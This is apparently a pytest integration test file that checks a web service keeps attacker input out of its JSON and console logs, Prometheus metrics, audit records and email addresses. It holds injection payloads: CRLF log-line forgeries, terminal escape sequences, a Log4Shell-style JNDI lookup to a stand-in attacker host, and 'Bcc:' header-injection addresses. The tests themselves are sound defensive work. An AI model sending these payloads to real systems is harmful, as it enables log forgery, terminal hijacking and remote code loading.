"""ASVS 5.0 V16.4.1, CWE-117, CWE-150: what a caller writes stays inside the value of one line of the log.

Lines are read here as three readers do: a machine that wants JSON, a person at a terminal, and Prometheus.
"""

import json
import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from app.config import Config
from app.database import run
from app.observability.logging import configure, flush
from tests.integration.conftest import Services
from tests.integration.hostile.attack_surface import attackable
from tests.people import PASSWORD, People
from tests.raw import ask, bearer, say
from tests.rows import event
from tests.service import Service, config_for
from tests.wire import data

JSON = ("Content-Type", "application/json")
# A pipe takes no more in one piece (POSIX, PIPE_BUF): longer lines of two workers would run into each other.
LONGEST_LINE = 4096
FORGED = '{"level":"error","event":"forged","path":"/v1/users"}'
PAYLOADS = {
    "line end": f"a\r\n{FORGED}\r\n",
    "escaped line end": "a%0d%0a" + FORGED.replace('"', "%22"),
    "end of value": '","event":"forged","x":"',
    "backslash": 'a\\","event":"forged',
    "terminal": "\x1b[2J\x1b]0;forged\x07\x1b[31m",
    "C1 terminal": "\x9b2Jforged\x9d0;",
    "unicode line end": "a\u2028{forged}\u2029b\x85c",
    "right to left": "\u202egro.elpmaxe\u2066",
    "NUL": "a\0forged",
    "template": "${jndi:ldap://evil.example/x}{{7*7}}%s%n%(asctime)s{0}",
    "long": "forged" * 17_000,
}
REQUEST_KEYS = {
    "timestamp", "level", "event", "request_id", "operation_id", "method", "path", "status", "duration_ms",
    "user_id", "queries",
    "code", "slow",
}  # fmt: skip
Log = Callable[[], list[bytes]]


@pytest.fixture(scope="session")
def running(services: Services) -> Service:
    """One way in: the log is written behind it."""
    return services["compiled"]


@pytest.fixture(params=["json", "console"])
def form(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def log(form: str, tmp_path: Path) -> Iterator[Log]:
    """The lines written since the test began."""
    path = tmp_path / "log"
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT)
    here = {"DATABASE_URL": "postgresql://nowhere/charter"}
    configure(config_for(LOG_LEVEL="debug", LOG_FORMAT=form, **here), descriptor=descriptor)

    def written() -> list[bytes]:
        assert flush()
        return path.read_bytes().split(b"\n")[:-1]

    yield written
    configure(config_for(**here))
    os.close(descriptor)


def play(service: Service, token: tuple[str, str], payload: str) -> None:
    """Send a payload in every place that it may take."""
    raw = payload.encode("utf-8", "surrogatepass")
    quoted = json.dumps(
        {"email": f"{payload[:60]}@example.com", "password": payload[:100], payload[:90]: payload[:300]}
    )
    for body in (quoted, json.dumps({"email": "nobody@example.com", "password": payload[:200]})):
        ask(service, "POST", "/v1/auth/login", [JSON], body.encode())
    ask(service, "PATCH", "/v1/users/me", [token, JSON], json.dumps({"display_name": payload[:90]}).encode())
    targets = (
        b"/v1/%b",
        b"/%b",
        b"/v1/users/%b",
        b"/v1/users/me?%b=1",
        b"/v1/users/me?q=%b",
        b"/docs/%b",
        b"/health?%b",
    )
    for target in targets:
        request = b"GET %b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n%b: %b\r\n\r\n"
        signed = token[0].encode(), token[1].encode()
        say(service, request % (target % raw.replace(b" ", b"+"), *signed))
        encoded = b"".join(b"%%%02x" % byte for byte in raw[:2000])
        say(service, request % (target % encoded, *signed))
    plain = payload.encode("utf-8").decode("latin-1").replace("\r\n", "\r\n ")
    for name in (
        "X-Request-Id",
        "User-Agent",
        "Authorization",
        "Accept",
        "If-Match",
        "Content-Type",
        "X-Forwarded-For",
        "Origin",
    ):
        say(
            service,
            f"POST /v1/auth/logout HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{name}: {plain}\r\n\r\n".encode(
                "latin-1"
            ),
        )
    say(service, f"GET /v1/users HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-{plain}: a\r\n\r\n".encode("latin-1"))
    say(service, f"{plain[:30]} /v1/users HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode("latin-1"))


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_no_payload_leaves_its_value(people: People, log: Log, form: str, payload: str) -> None:
    """ASVS V16.4.1: one line a request, of the known keys, bounded, without a raw control character."""
    play(people.alice.service, bearer(people.alice.sign_in()["access_token"]), payload)

    lines = log()
    assert len(lines) >= 10
    for line in lines:
        assert len(line) <= LONGEST_LINE
        assert not re.search(rb"[\x00-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8-\xae]|\xe2\x81[\xa6-\xa9]", line), line
    if form == "json":
        told = [json.loads(line) for line in lines]
        assert {entry["event"] for entry in told} <= {"request", "Invalid HTTP request received."}
        assert all(set(entry) == REQUEST_KEYS for entry in told if entry["event"] == "request")
    else:
        assert all(
            re.match(rb"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d \[|\d{4}-\d\d-\d\dT[\d:.]+Z \[", line) for line in lines
        ), lines[0]


def test_a_made_up_label_never_reaches_the_figures(people: People, service: Service) -> None:
    """API4:2023: methods, paths and names of a caller's own make no new series: what is counted are operations."""
    for payload in PAYLOADS.values():
        play(service, bearer(people.alice.sign_in()["access_token"]), payload)
    with service.client() as client:
        text = client.get("/metrics").text

    values = set(re.findall(r'operation="([^"]*)"', text))
    assert values <= {operation.name for operation in attackable()} | {"none"}
    assert all(re.fullmatch("[1-5][0-9][0-9]", status) for status in re.findall(r'status="([^"]*)"', text))
    assert set(re.findall(r'(\w+)="', text)) <= {"operation", "status", "le", "policy", "outcome"}
    assert set(re.findall(r'policy="([^"]*)"', text)) <= set(Config().lifetimes)
    assert set(re.findall(r'outcome="([^"]*)"', text)) <= {"hit", "miss", "pending", "away", "corrupt"}
    assert "forged" not in text


def test_what_is_kept_in_the_trail_is_kept_as_one_bounded_value(people: People, service: Service) -> None:
    """ASVS V16.4.1: agent, reason and request id: no line of its own, no row of its own, never longer than said."""
    token = bearer(people.ada.sign_in()["access_token"])
    for number, payload in enumerate(PAYLOADS.values()):
        if "\0" in payload:
            continue
        before = int(run("SELECT count(*) FROM audit_events")[0][0])
        agent = payload.encode().decode("latin-1").replace("\r\n", " ")[:6000]
        body = json.dumps({"reason": payload[:500]}).encode()
        headers = [token, JSON, ("X-Request-Id", f"trail.{number}")]
        agents = [("User-Agent", agent)] if agent.isprintable() or "\x9b" in agent else []
        response = ask(service, "POST", f"/v1/users/{people.bob.id}/suspend", [*headers, *agents], body)

        data(response)
        assert event(response).details == {"reason": payload[:500]}
        assert run("SELECT count(*) FROM audit_events") == [(before + 2,)]
    for (kept,) in run("SELECT user_agent FROM audit_clients WHERE user_agent IS NOT NULL"):
        assert len(kept) <= 256
        assert kept.isprintable()


def test_an_address_with_a_line_end_is_no_address(people: People, service: Service) -> None:
    """ASVS V1.3.11 header injection into mail: nothing that could end a header line passes for an address."""
    inside = ("a\r\nBcc: b@example.com", "a\n", "a\rb", "a\u2028b", "a\x1b[2J", "a\u0085b", "a b", "a,b", "<a>")
    for bad in [*(f"{text}@example.com" for text in inside), "a@example.com\r\nBcc: b@example.com", "a@b.example>\n"]:
        body = {"email": bad, "password": PASSWORD}
        response = people.ada.api.post("/v1/users", json=body)
        assert response.status_code == 400, (bad, response.text)
        with service.client() as client:
            assert client.post("/v1/auth/register", json=body).status_code == 400
    assert run("SELECT count(*) FROM users") == [(1,)]
